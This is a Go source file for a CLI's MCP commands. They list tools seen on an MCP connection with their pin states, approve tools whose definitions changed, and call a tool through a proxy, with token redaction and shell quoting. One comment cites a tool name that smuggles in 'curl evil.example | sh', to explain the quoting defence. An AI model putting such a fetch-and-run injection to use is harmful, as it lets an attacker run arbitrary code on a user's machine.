package main

// The MCP commands: `gatehouse mcp tools` and `mcp approve` show and approve the tools
// Gatehouse has seen on an MCP connection (and their pins); `mcp call` is an MCP client
// (the official Go SDK's) that calls one tool through Gatehouse's MCP proxy.

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/spf13/cobra"

	"github.com/gatehouse/gatehouse/internal/buildinfo"
	"github.com/gatehouse/gatehouse/internal/httpapi"
)

const (
	// cliDefaultWidth is the width tables are cut to when neither COLUMNS nor the
	// terminal tells.
	cliDefaultWidth = 100
	// cliMCPCallTimeout bounds `mcp call` from initialize to the result, as the API
	// client bounds each of its requests.
	cliMCPCallTimeout = 2 * time.Minute
	// cliMCPMaxInspect bounds the JSON answer `mcp call` reads for a JSON-RPC error that
	// the SDK does not pass on (see cliMCPTransport); larger answers pass unread.
	cliMCPMaxInspect = 1 << 20
	// cliMaxErrorBody bounds the error body read for an API error.
	cliMaxErrorBody = 64 << 10
	// cliMaxErrorText bounds each field of an error shown to the user.
	cliMaxErrorText = 1000
)

func (c *clientCLI) mcpCommand() *cobra.Command {
	cmd := &cobra.Command{
		Use:   "mcp",
		Short: "Show, approve and call the tools of MCP connections",
		Long: `Show, approve and call the tools of MCP connections (is_mcp_connection "true").

Agents reach such a connection at {GATEHOUSE_HOST}/api/2.0/mcp/external/{name} with
their own Gatehouse token as "Authorization: Bearer"; Gatehouse injects the connection's
credential, filters tools by mcp_allowed_tools and, with mcp_pin_tools "true", hides and
refuses every tool whose definition changed (or that appeared) since it was approved.`,
	}
	cmd.AddCommand(c.mcpTools(), c.mcpApprove(), c.mcpCall())
	return cmd
}

func (c *clientCLI) mcpTools() *cobra.Command {
	return &cobra.Command{
		Use:   "tools CONNECTION",
		Short: "List the tools Gatehouse has seen on an MCP connection, with their pins and state",
		Long: `List the tools Gatehouse has seen on an MCP connection (recorded whenever an MCP
client lists them) with, for each, whether mcp_allowed_tools lets it through and its
pin state:

  PINNED     its definition is the approved one
  CHANGED    its name, description or input schema changed since it was approved:
             hidden from tools/list and refused until approved
  NEW        it appeared after the connection's tools were pinned: hidden and refused
             until approved
  UNPINNED   the connection does not pin tools (mcp_pin_tools is not "true")

Tools waiting for approval (CHANGED, NEW) come first, and a line on stderr names
them with the command that approves them. The DESCRIPTION column is cut to the
terminal's width (COLUMNS when set); "-o json" shows every field whole, with the pins
and the seen hashes and times.`,
		Example: `  gatehouse mcp tools github-mcp
  COLUMNS=200 gatehouse mcp tools github-mcp
  gatehouse mcp tools github-mcp -o json`,
		Args: cliExactArgs("CONNECTION"),
		RunE: func(cmd *cobra.Command, args []string) error {
			v, err := c.mcpToolsRequest(cmd.Context(), args[0], nil)
			if err != nil {
				return err
			}
			return c.show(v, func() error { return c.mcpToolsTable(v) })
		},
	}
}

func (c *clientCLI) mcpApprove() *cobra.Command {
	return &cobra.Command{
		Use:   "approve CONNECTION TOOL...",
		Short: "Approve the current definition of changed or new tools of an MCP connection (owner or MANAGE)",
		Long: `Approve the definitions Gatehouse last saw of the named tools of an MCP connection
that pins its tools: each becomes the tool's pin, and the tool is PINNED, listed and
callable again. Read what changed first ("gatehouse mcp tools CONNECTION -o json" shows
the description and the hashes): approving trusts the new definition.

The connection's owner, a MANAGE holder or an admin may approve. An unknown tool name
fails the whole command and approves nothing. The resulting tool list is printed.`,
		Example: `  gatehouse mcp approve github-mcp create_issue
  gatehouse mcp approve github-mcp create_issue search_code -o json`,
		Args: func(cmd *cobra.Command, args []string) error {
			if len(args) < 2 {
				return fmt.Errorf("%s: want CONNECTION and at least one TOOL; got %d argument(s)", cmd.CommandPath(), len(args))
			}
			return nil
		},
		RunE: func(cmd *cobra.Command, args []string) error {
			v, err := c.mcpToolsRequest(cmd.Context(), args[0], args[1:])
			if err != nil {
				return err
			}
			return c.show(v, func() error { return c.mcpToolsTable(v) })
		},
	}
}

func (c *clientCLI) mcpCall() *cobra.Command {
	var argsFlag string
	cmd := &cobra.Command{
		Use:   "call CONNECTION TOOL [--args JSON]",
		Short: "Call a tool of an MCP connection through Gatehouse, as an MCP client would",
		Long: `Call one tool of an MCP connection through Gatehouse's MCP proxy, as an agent would:
an MCP client (Streamable HTTP) initializes a session at
{host}/api/2.0/mcp/external/CONNECTION with your token, sends tools/call and closes
the session. Gatehouse injects the connection's credential and applies its tool
allow-list and pins, exactly as for any MCP client.

--args is the tool's arguments, a JSON object ("{}" when not given); @FILE reads it
from a file, @- from stdin. Anything but a JSON object is refused before any request.

Each text content of the result is printed on its own line, any other content (an
image, a resource) as one line of JSON; "-o json" prints the whole result. A result
with isError true is printed on stderr and the command exits with status 1, as it
does for an error of the protocol (a tool outside the allow-list, a per-user
connection you have not logged in to, with its login URL) or of Gatehouse (no
USE_CONNECTION). The call is given up after 2 minutes.`,
		Example: `  gatehouse mcp call github-mcp search_repositories --args '{"query":"gatehouse"}'
  gatehouse mcp call github-mcp get_me
  gatehouse mcp call github-mcp create_issue --args @issue.json -o json`,
		Args: cliExactArgs("CONNECTION", "TOOL"),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := c.checkOutput(); err != nil {
				return err
			}
			arguments, err := c.mcpArguments(argsFlag)
			if err != nil {
				return err
			}
			t, err := c.resolve()
			if err != nil {
				return err
			}
			ctx, cancel := context.WithTimeout(cmd.Context(), cliMCPCallTimeout)
			defer cancel()
			res, err := cliMCPCallTool(ctx, t, args[0], args[1], arguments)
			if err != nil {
				return err
			}
			return c.printToolResult(args[1], res)
		},
	}
	cmd.Flags().StringVar(&argsFlag, "args", "", `the tool's arguments, a JSON object (default "{}"); @FILE reads a file, @- stdin`)
	return cmd
}

// ---- mcp tools and approve ----

// cliMCPToolsView is the body of GET /api/2.0/gatehouse/connections/{name}/mcp-tools
// and of POST .../mcp-tools/approve.
type cliMCPToolsView = httpapi.MCPToolsView

// cliMCPToolView is one tool of a cliMCPToolsView.
type cliMCPToolView = httpapi.MCPToolView

// cliMCPToolRow is what the table shows of a tool: the one adapter between the API's
// tool type and the table.
func cliMCPToolRow(t cliMCPToolView) (name, description string, allowed bool, state string) {
	return t.Name, t.Description, t.Allowed, t.State
}

// The pin states of a tool that wait for an owner's approval.
const (
	cliMCPStateChanged = "CHANGED"
	cliMCPStateNew     = "NEW"
)

// mcpToolsRequest fetches a connection's tool view, or with tools approves those and
// returns the view after the approval.
func (c *clientCLI) mcpToolsRequest(ctx context.Context, conn string, tools []string) (*cliMCPToolsView, error) {
	if err := c.checkOutput(); err != nil {
		return nil, err
	}
	api, err := c.api()
	if err != nil {
		return nil, err
	}
	if tools == nil {
		return api.MCPTools(ctx, conn)
	}
	return api.ApproveMCPTools(ctx, conn, tools)
}

// mcpToolsTable prints the tools, those waiting for approval first, the description
// cut so that each line fits the width; and on stderr what an operator should know.
func (c *clientCLI) mcpToolsTable(v *cliMCPToolsView) error {
	type row struct {
		name, description, allowed, state string
	}
	rows := make([]row, 0, len(v.Tools))
	var waiting []string
	for _, t := range v.Tools {
		name, description, allowed, state := cliMCPToolRow(t)
		r := row{name: cliCell(name), description: description, allowed: "no", state: cliCell(state)}
		if allowed {
			r.allowed = "yes"
		}
		if state == cliMCPStateChanged || state == cliMCPStateNew {
			waiting = append(waiting, cliShellWord(r.name))
		}
		rows = append(rows, r)
	}
	// Stable: the server's order (by name) within each group.
	slices.SortStableFunc(rows, func(a, b row) int {
		wa := a.state == cliMCPStateChanged || a.state == cliMCPStateNew
		wb := b.state == cliMCPStateChanged || b.state == cliMCPStateNew
		switch {
		case wa && !wb:
			return -1
		case wb && !wa:
			return 1
		}
		return 0
	})

	header := []string{"TOOL", "ALLOWED", "STATE", "DESCRIPTION"}
	// The columns before DESCRIPTION are as wide as their widest cell plus the table's
	// padding of 2; the description gets what is left of the line, never less than its
	// header.
	used := 0
	for i := range 3 {
		w := utf8.RuneCountInString(header[i])
		for _, r := range rows {
			w = max(w, utf8.RuneCountInString([]string{r.name, r.allowed, r.state}[i]))
		}
		used += w + 2
	}
	room := max(c.width()-used, len(header[3]))
	cells := make([][]string, 0, len(rows))
	for _, r := range rows {
		cells = append(cells, []string{r.name, r.allowed, r.state, cliCut(cliCell(r.description), room)})
	}
	if err := c.table(header, cells); err != nil {
		return err
	}
	conn := cliCell(v.Connection)
	switch {
	case len(v.Tools) == 0:
		fmt.Fprintf(c.e.stderr, "No tools seen on %s yet: they are recorded when an MCP client lists them (tools/list).\n", conn)
	case len(waiting) > 0:
		fmt.Fprintf(c.e.stderr, "%d tool(s) hidden and refused until approved (CHANGED or NEW); after checking their definitions (-o json):\n  gatehouse mcp approve %s %s\n",
			len(waiting), cliShellWord(conn), strings.Join(waiting, " "))
	case !v.PinTools:
		fmt.Fprintf(c.e.stderr, "%s does not pin its tools (mcp_pin_tools is not \"true\"): a changed tool is not held back.\n", conn)
	}
	return nil
}

// cliShellWord quotes s for a POSIX shell unless it is plainly safe: the tool names in
// the suggested approve command come from the MCP server, and one called
// "x; curl evil.example | sh" must stay one argument when the line is pasted.
func cliShellWord(s string) string {
	if s != "" && !strings.ContainsFunc(s, func(r rune) bool {
		return !(r < utf8.RuneSelf && (r == '_' || r == '-' || r == '.' || r == '/' || r == ':' || r == '@' || r == '+' || r == '=' || r == ',' ||
			('a' <= r && r <= 'z') || ('A' <= r && r <= 'Z') || ('0' <= r && r <= '9')))
	}) {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// width is the width of the output: COLUMNS when set to a number, else the terminal's
// when stdout is one, else cliDefaultWidth.
func (c *clientCLI) width() int {
	if n, err := strconv.Atoi(strings.TrimSpace(c.getenv("COLUMNS"))); err == nil && n > 0 {
		return n
	}
	if n := cliTerminalWidth(c.e.stdout); n > 0 {
		return n
	}
	return cliDefaultWidth
}

// ---- mcp call ----

// mcpArguments reads --args ("" is "{}"; @FILE and @- read a file or stdin) and checks
// that it is one JSON object. The error never echoes the value: it may hold a secret.
func (c *clientCLI) mcpArguments(v string) (json.RawMessage, error) {
	if v == "" {
		return json.RawMessage("{}"), nil
	}
	b, err := c.readArg(v)
	if err != nil {
		return nil, fmt.Errorf("--args: %w", err)
	}
	return cliJSONObject(b)
}

// cliJSONObject checks that b is exactly one JSON object and returns it trimmed.
func cliJSONObject(b []byte) (json.RawMessage, error) {
	b = bytes.TrimSpace(b)
	var obj map[string]json.RawMessage
	if err := json.Unmarshal(b, &obj); err != nil {
		var se *json.SyntaxError
		switch {
		case len(b) == 0:
			return nil, errors.New(`--args: empty; want a JSON object such as '{"text":"hello"}'`)
		case errors.As(err, &se):
			return nil, fmt.Errorf(`--args: not valid JSON (at byte %d); want a JSON object such as '{"text":"hello"}'`, se.Offset)
		}
		return nil, fmt.Errorf(`--args: a JSON %s, want a JSON object such as '{"text":"hello"}'`, cliJSONKind(b[0]))
	}
	if obj == nil { // the JSON null
		return nil, errors.New(`--args: a JSON null, want a JSON object such as '{"text":"hello"}'`)
	}
	return json.RawMessage(b), nil
}

func cliJSONKind(first byte) string {
	switch first {
	case '[':
		return "array"
	case '"':
		return "string"
	case 't', 'f':
		return "boolean"
	}
	return "number"
}

// cliMCPEndpoint is Gatehouse's MCP proxy URL for a connection.
func cliMCPEndpoint(host, conn string) (string, error) {
	if conn == "" || conn == "." || conn == ".." {
		return "", fmt.Errorf("invalid connection name %q", conn)
	}
	return host + "/api/2.0/mcp/external/" + url.PathEscape(conn), nil
}

// cliMCPCallTool initializes an MCP session with the connection through Gatehouse,
// calls tool with arguments and closes the session.
func cliMCPCallTool(ctx context.Context, t cliTarget, conn, tool string, arguments json.RawMessage) (*mcp.CallToolResult, error) {
	endpoint, err := cliMCPEndpoint(t.host, conn)
	if err != nil {
		return nil, err
	}
	rt := &cliMCPTransport{token: t.token, base: cliHTTPTransport()}
	client := mcp.NewClient(&mcp.Implementation{Name: "gatehouse-cli", Version: buildinfo.Get().Version}, nil)
	cs, err := client.Connect(ctx, &mcp.StreamableClientTransport{
		Endpoint:   endpoint,
		HTTPClient: &http.Client{Transport: rt, CheckRedirect: cliNoRedirect},
		// One call needs no stream for server-initiated messages.
		DisableStandaloneSSE: true,
	}, nil)
	if err != nil {
		return nil, rt.explain(ctx, "connect to MCP connection "+cliCell(conn), err)
	}
	defer cs.Close() // ends the session upstream (DELETE); its failure changes nothing
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: arguments})
	if err != nil {
		return nil, rt.explain(ctx, "call tool "+cliCell(tool)+" of "+cliCell(conn), err)
	}
	return res, nil
}

// printToolResult prints a tool's result: "-o json" the whole result, else each text
// content on a line of its own and other content as one JSON line each; on stderr when
// the tool reported an error, which also makes the command fail.
func (c *clientCLI) printToolResult(tool string, res *mcp.CallToolResult) error {
	if c.output == "json" {
		if err := c.printJSON(res); err != nil {
			return err
		}
	} else {
		w := c.e.stdout
		if res.IsError {
			w = c.e.stderr
		}
		var b strings.Builder
		for _, ct := range res.Content {
			if tc, ok := ct.(*mcp.TextContent); ok {
				b.WriteString(httpapi.Printable(strings.TrimSuffix(tc.Text, "\n")))
				b.WriteString("\n")
				continue
			}
			if err := cliJSONLine(&b, ct); err != nil {
				return err
			}
		}
		if len(res.Content) == 0 && res.StructuredContent != nil {
			if err := cliJSONLine(&b, res.StructuredContent); err != nil {
				return err
			}
		}
		if _, err := io.WriteString(w, b.String()); err != nil {
			return err
		}
	}
	if res.IsError {
		return fmt.Errorf("tool %s reported an error (isError)", cliCell(tool))
	}
	return nil
}

// cliJSONLine writes v as one line of JSON that is safe for a terminal.
func cliJSONLine(b *strings.Builder, v any) error {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return fmt.Errorf("encode tool result content: %w", err)
	}
	b.WriteString(httpapi.Printable(buf.String()))
	return nil
}

// cliMCPTransport adds the caller's Gatehouse token to every request of the MCP client
// and notes what the SDK does not pass on: the API error of a refusal Gatehouse answered
// itself (PERMISSION_DENIED, ...), whose message the SDK replaces by the HTTP status,
// and the JSON-RPC error of a JSON answer, which the SDK drops for the codes it gives
// its own meaning (-32003, Gatehouse's "Tool not allowed", reads as "client is closing").
type cliMCPTransport struct {
	token string
	base  http.RoundTripper

	mu     sync.Mutex
	apiErr *httpapi.APIError
	rpcErr *jsonrpc.Error
}

func (t *cliMCPTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+t.token)
	r.Header.Set("User-Agent", "gatehouse-cli")
	resp, err := t.base.RoundTrip(r)
	if err != nil {
		return nil, err
	}
	switch {
	case resp.StatusCode >= 400 && resp.Header.Get(httpapi.ErrorCodeHeader) != "":
		if data, whole := cliPeekBody(resp, cliMaxErrorBody); whole {
			e := cliAPIError(resp, data, t.token)
			t.mu.Lock()
			t.apiErr = e
			t.mu.Unlock()
		}
	case r.Method == http.MethodPost && resp.StatusCode == http.StatusOK && cliIsJSON(resp.Header.Get("Content-Type")):
		if data, whole := cliPeekBody(resp, cliMCPMaxInspect); whole {
			if e := cliRPCErrorIn(data); e != nil {
				t.mu.Lock()
				t.rpcErr = e
				t.mu.Unlock()
			}
		}
	}
	return resp, nil
}

// explain turns an error of the MCP client into what the user should read: Gatehouse's
// own refusal as the other commands print API errors, a JSON-RPC error with its code
// (and the login URL of a login-required error), else the SDK's error, all of it
// printable and without the token.
func (t *cliMCPTransport) explain(ctx context.Context, op string, err error) error {
	t.mu.Lock()
	apiErr, rpcErr := t.apiErr, t.rpcErr
	t.mu.Unlock()
	if apiErr != nil {
		return apiErr
	}
	var we *jsonrpc.Error
	if errors.As(err, &we) {
		return cliRPCError(op, we, t.token)
	}
	if errors.Is(err, mcp.ErrConnectionClosed) && rpcErr != nil {
		return cliRPCError(op, rpcErr, t.token)
	}
	if errors.Is(ctx.Err(), context.DeadlineExceeded) {
		return fmt.Errorf("%s: no answer within %s", op, cliMCPCallTimeout)
	}
	return fmt.Errorf("%s: %s", op, cliErrorText(err.Error(), t.token))
}

// cliRPCError is a JSON-RPC error as the user reads it: its code and message, and the
// login URL a login-required error carries in data.login_url when the message does not
// already hold it.
func cliRPCError(op string, e *jsonrpc.Error, token string) error {
	msg := cliErrorText(e.Message, token)
	var data struct {
		LoginURL string `json:"login_url"`
	}
	if len(e.Data) > 0 && json.Unmarshal(e.Data, &data) == nil && data.LoginURL != "" {
		if u := cliErrorText(data.LoginURL, token); !strings.Contains(msg, u) {
			msg += " (log in at " + u + ")"
		}
	}
	return fmt.Errorf("%s: JSON-RPC error %d: %s", op, e.Code, msg)
}

// cliRPCErrorIn returns the first JSON-RPC error response in a JSON body (one message
// or a batch), or nil.
func cliRPCErrorIn(body []byte) *jsonrpc.Error {
	body = bytes.TrimSpace(body)
	msgs := []json.RawMessage{body}
	if len(body) > 0 && body[0] == '[' {
		if json.Unmarshal(body, &msgs) != nil {
			return nil
		}
	}
	for _, m := range msgs {
		var r struct {
			Error *jsonrpc.Error `json:"error"`
		}
		if json.Unmarshal(m, &r) == nil && r.Error != nil {
			return r.Error
		}
	}
	return nil
}

// cliAPIError turns an error answer of the API into the *httpapi.APIError the other
// commands print (httpapi.APIErrorOf, as the API client reads it), each field then on
// one line and bounded (cliErrorText): the SDK's error it replaces is one line too.
func cliAPIError(resp *http.Response, data []byte, token string) *httpapi.APIError {
	e := httpapi.APIErrorOf(resp, data, token)
	for _, s := range []*string{&e.Code, &e.Message, &e.RequestID, &e.LoginURL} {
		*s = cliErrorText(*s, token)
	}
	return e
}

// cliErrorText makes server-provided text fit an error line: the token removed, one
// line, no control characters, at most cliMaxErrorText characters.
func cliErrorText(s, token string) string {
	if token != "" {
		s = strings.ReplaceAll(s, token, "[REDACTED]")
	}
	s = strings.Join(strings.Fields(httpapi.Printable(s)), " ")
	return cliCut(s, cliMaxErrorText)
}

// cliPeekBody reads up to limit bytes of resp's body and puts them back in front of
// the rest, so that the SDK reads the same answer; whole reports that data is all of it.
func cliPeekBody(resp *http.Response, limit int64) (data []byte, whole bool) {
	data, err := io.ReadAll(io.LimitReader(resp.Body, limit+1))
	resp.Body = struct {
		io.Reader
		io.Closer
	}{io.MultiReader(bytes.NewReader(data), resp.Body), resp.Body}
	return data, err == nil && int64(len(data)) <= limit
}

func cliIsJSON(contentType string) bool {
	mt, _, err := mime.ParseMediaType(contentType)
	return err == nil && mt == "application/json"
}

// cliHTTPTransport is the transport of the API client's default http.Client: the
// system's trusted CAs (SSL_CERT_FILE, SSL_CERT_DIR) and HTTPS_PROXY, as every command.
func cliHTTPTransport() http.RoundTripper {
	if t, ok := http.DefaultTransport.(*http.Transport); ok {
		return t.Clone()
	}
	return http.DefaultTransport
}

// cliNoRedirect keeps a client from following redirects: the token is meant for the
// Gatehouse server only.
func cliNoRedirect(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }

// checkOutput checks -o before any request.
func (c *clientCLI) checkOutput() error {
	if c.output != "table" && c.output != "json" {
		return fmt.Errorf("--output %q: want table or json", c.output)
	}
	return nil
}
